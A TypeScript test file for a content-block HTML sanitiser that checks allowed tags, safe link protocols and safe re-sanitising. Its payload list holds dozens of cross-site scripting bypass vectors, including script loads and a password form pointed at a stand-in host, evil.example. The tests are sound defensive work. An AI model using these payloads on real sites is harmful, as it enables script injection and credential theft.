import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { blockContent } from '@firkant/domain/content/blocks/block-content-schema.ts'
import { safeBlock } from './safe-blocks.ts'
import { sanitiseHtml } from './sanitise-html.ts'

// A fixed seed, so that a failure can be reproduced.
fc.configureGlobal({ seed: 20_261_115 })

const TAGS = 'p|br|h2|h3|h4|ul|ol|li|strong|b|em|i|a|blockquote|hr|table|thead|tbody|tr|th|td'
const ATTRIBUTES = 'href|target|rel|title|scope|colspan'
/** Every angle bracket belongs to an allowed tag whose attributes are allowed and quoted; all else is text. */
const SAFE = new RegExp(`^(?:[^<>]|</?(?:${TAGS})(?: (?:${ATTRIBUTES})(?:="[^"<>]*")?)*(?: /)?>)*$`)

const decode = (text: string) =>
  text.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')

function expectSafe(html: string): void {
  expect(html).toMatch(SAFE)
  for (const [, href = ''] of html.matchAll(/ href="([^"]*)"/g)) {
    const goesTo = URL.parse(decode(href), 'https://shop.example/')
    expect(goesTo?.protocol ?? 'none').toMatch(/^(?:https?:|mailto:|tel:|none)$/)
    if (!/^(?:https?|mailto|tel):/i.test(decode(href))) expect(goesTo?.host ?? 'shop.example').toBe('shop.example')
  }
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script/xss>alert(1)</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<image/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<style>@import "//evil.example/x.css"; p{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)" onmouseover=alert(1) ONFOCUS=alert(1) autofocus tabindex=1>x</p>',
  '<p id="shop" class="admin" name="x">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="/\t/evil.example/">x</a>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<a href=\'x" onclick="alert(1)\'>x</a>',
  '<a href="x" title=\'"><script>alert(1)</script>\'>x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '</p></div><script>alert(1)</script>',
]

describe('sanitiseHtml', () => {
  it.each(PAYLOADS)('BLOCK-37 makes harmless: %s', (payload) => {
    expectSafe(sanitiseHtml(payload))
    expectSafe(sanitiseHtml(`<p>før ${payload} efter</p>`))
  })

  it('BLOCK-37 keeps what an editor may write', () => {
    const html =
      '<h2>Lys</h2><p>Tekst med <strong>vægt</strong>, <em>tryk</em> og <a href="/sofaer?page=2&amp;sort=price" title="Se">link</a>.<br /></p>' +
      '<ul><li>Ét</li></ul><blockquote>Citat</blockquote><hr /><table><thead><tr><th scope="col" colspan="2">Mål</th></tr></thead><tbody><tr><td>90 &lt; 100</td></tr></tbody></table>' +
      '<p><a href="https://evil.example/">ud</a> <a href="mailto:hej@hjemly.example">skriv</a> <a href="tel:+4570123456">ring</a></p>'
    expect(sanitiseHtml(html)).toBe(html)
    expect(html).toMatch(SAFE)
  })

  it('BLOCK-37 drops the script with what is in it, and keeps the text of other tags', () => {
    expect(sanitiseHtml('<p>før<script>alert(1)</script><style>p{}</style> efter</p>')).toBe('<p>før efter</p>')
    expect(sanitiseHtml('<div><h1>Overskrift</h1></div>')).toBe('Overskrift')
  })

  it('BLOCK-37 a link to a new tab does not lend it the window', () => {
    expect(sanitiseHtml('<a href="/a" target="_blank">x</a>')).toBe(
      '<a href="/a" target="_blank" rel="noopener noreferrer">x</a>',
    )
    expect(sanitiseHtml('<a href="/a" target="_blank" rel="opener">x</a>')).toContain('rel="noopener noreferrer"')
  })

  it('BLOCK-37 whatever payloads are put together stays harmless, also when it is cleaned twice', () => {
    const part = fc.oneof(
      fc.constantFrom(...PAYLOADS),
      fc.constantFrom('<', '>', '"', "'", '`', '=', '/', '&', '<p', '<a href=', '-->', '<!--', ']]>'),
      fc.string({ maxLength: 5 }),
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 6 }), (parts) => {
        const clean = sanitiseHtml(parts.join(''))
        expectSafe(clean)
        expectSafe(sanitiseHtml(clean))
      }),
      { numRuns: 300 },
    )
  })
})

describe('safeBlock', () => {
  const nasty = '<p>ok</p><img src=x onerror=alert(1)>'
  const block = (componentName: string, props: object) => blockContent.parse({ id: 'a', componentName, props })

  it('BLOCK-37 cleans every HTML that a block holds, inside a layout as well', () => {
    const editorial = { id: 'b', componentName: 'Editorial', props: { html: nasty } }
    const banner = { id: 'c', componentName: 'ImageBanner', props: { text: nasty, mobileText: nasty } }
    const product = { id: 'd', componentName: 'ProductBlock', props: { productKey: 'nordlo', text: nasty } }
    const blocks = [
      block('Editorial', editorial.props),
      block('ImageBanner', banner.props),
      block('ProductBlock', product.props),
      block('Layout', { columns: [{ blocks: [editorial] }, { blocks: [banner, product] }] }),
    ]
    const stored = JSON.stringify(blocks.map((each) => safeBlock(each)))
    expect(stored).not.toContain('onerror')
    expect(stored.match(/<p>ok<\/p>/g)).toHaveLength(8)
  })

  it('BLOCK-37 leaves a block without HTML as it is', () => {
    const spacer = block('Spacer', { size: 'large' })
    expect(safeBlock(spacer)).toBe(spacer)
  })
})
